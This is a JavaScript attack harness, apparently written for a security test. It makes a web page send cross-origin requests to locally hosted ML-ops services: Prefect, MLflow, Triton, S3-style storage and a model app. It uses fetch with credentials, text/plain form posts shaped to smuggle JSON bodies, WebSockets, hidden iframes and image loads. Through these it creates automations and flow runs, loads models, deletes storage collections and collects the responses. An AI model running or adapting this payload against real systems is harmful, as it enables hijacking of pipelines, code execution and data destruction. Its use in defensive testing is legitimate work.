// Each line of `attack` is one way in; what a page learns is collected, so that a test sees it.
const learned = [];
const short = promise => Promise.race([promise, new Promise(done => setTimeout(done, 3000))]);
const post = (address, body, more = {}) => short(fetch(address, {method: 'POST', body, ...more}).then(
    answer => answer.text()).then(text => text && learned.push(text), () => {}));
const read = (address, more = {}) => short(fetch(address, more).then(
    answer => answer.text()).then(text => text && learned.push(text), () => {}));
const shown = address => short(new Promise(done => {
    const image = new Image(); image.onload = image.onerror = done; image.src = address; }));
const spoken = (address, protocols, messages) => short(new Promise(done => {
    const socket = new WebSocket(address, protocols);
    socket.onopen = () => { learned.push('open ' + address); messages.forEach(each => socket.send(each)); setTimeout(done, 500); };
    socket.onmessage = message => learned.push(message.data);
    socket.onerror = socket.onclose = done; }));
const sent = (address, body) => short(new Promise(done => {
    const frame = document.createElement('iframe'), form = document.createElement('form'), field = document.createElement('input');
    frame.name = 'f' + Math.random(); frame.onload = done; form.target = frame.name; form.method = 'POST';
    form.enctype = 'text/plain'; form.action = address; field.name = body.slice(0, -1) + ', "x": "'; field.value = '"}';
    form.append(field); document.body.append(frame, form); form.submit(); }));

const framed = address => short(new Promise(done => {
    const frame = document.createElement('iframe'); frame.src = address; document.body.append(frame);
    frame.onload = () => { try { learned.push(frame.contentDocument.body.innerText); } catch {} done(); }; }));
const submitted = (address, fields) => short(new Promise(done => {
    const frame = document.createElement('iframe'), form = document.createElement('form');
    frame.name = 'f' + Math.random(); frame.onload = done; form.target = frame.name; form.method = 'POST'; form.action = address;
    for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), {name, value}));
    document.body.append(frame, form); form.submit(); }));

async function attack(at) {
    const json = JSON.stringify, every = [{}, {mode: 'no-cors'}, {mode: 'no-cors', credentials: 'include'}, {credentials: 'include'},
        {credentials: 'include', headers: {'Content-Type': 'application/json'}}];
    for (const how of every) {
        await post(at.prefect + '/api/automations/', new Blob([json(at.automation)]), how);
        await post(at.prefect + '/api/deployments/' + at.deployment + '/create_flow_run', new Blob([json(at.run)]), how);
        await post(at.prefect + '/api/deployments/', new Blob([json(at.made)]), how);
        await post(at.prefect + '/api/events', new Blob([json([at.event])]), how);
        await post(at.mlflow + '/api/2.0/mlflow/experiments/create', json({name: at.mark}), how);
        await post(at.mlflow + '/ajax-api/2.0/mlflow/registered-models/create', json({name: at.mark}), how);
        await post(at.live + '/predict/' + at.mark, new Blob(['x']), how);
        await read(at.mlflow + '/api/2.0/mlflow/experiments/search?max_results=9', how);
        await read(at.prefect + '/api/deployments/name/train-model/gpu', how);
        await read(at.live + '/models', how);
        await post(at.live + '/start/validate-dataset', new URLSearchParams({archive: at.mark + '.zip'}), how);
        await read(at.live + '/start/validate-dataset?archive=' + at.mark + '.zip', how);
        await post(at.live + '/uploads?size=1&name=' + at.mark + '.zip', '', how);
        await post(at.live + '/s3-events', json(at.notification), how);
        for (const path of ['/datasets/list', '/registered-models/list', '/runs/newest', '/predictions/list', '/uploads', '/files/runs/' + at.deployment + '/x.json'])
            await read(at.live + path, how);
        for (const asked of ['repository/models/predict/unload', 'repository/models/' + at.mark + '/load', 'repository/index',
            'systemsharedmemory/region/x/register', 'logging', 'trace/setting'])
            await post(at.triton + '/v2/' + asked, new Blob(['{}']), how);
        await read(at.triton + '/v2/models/predict/config', how);
        for (const store of [at.s3, at.filer, at.volume, at.master])
            for (const path of ['/media', '/media/' + at.mark, '/buckets/media/' + at.mark, '/admin/assign_volume?volume=1', '/dir/assign'])
                for (const method of ['GET', 'POST', 'PUT', 'DELETE'])
                    await short(fetch(store + path, {method, body: method[0] === 'P' ? new Blob(['lost']) : undefined, ...how})
                        .then(answer => answer.text()).then(text => text && learned.push(text), () => {}));
    }
    await sent(at.mlflow + '/api/2.0/mlflow/experiments/create', json({name: at.mark}));
    await sent(at.prefect + '/api/automations/', json(at.automation));
    for (const path of ['/api/events/in', '/api/events/out', '/api/logs/out'])
        for (const protocols of [[], ['prefect']])
            await spoken(at.prefect.replace('http', 'ws') + path, protocols, [json({type: 'auth', token: ''}), json(at.event)]);
    await shown(at.master + '/col/delete?collection=media');
    for (const store of [at.s3, at.filer, at.volume, at.master])
        await shown(store + '/media/' + at.mark);
    await shown(at.master + '/dir/status');
    await read(at.master + '/dir/status');
    await submitted(at.live + '/start/validate-dataset', {archive: at.mark + '.zip'});
    await sent(at.live + '/s3-events', json(at.notification));
    for (const path of ['/predictions', '/live', '/start/validate-dataset?archive=' + at.mark + '.zip']) {
        await framed(at.live + path);
        await shown(at.live + path);
    }
    await shown(at.mlflow + '/get-artifact?path=x&run_uuid=x');
    return learned;
}
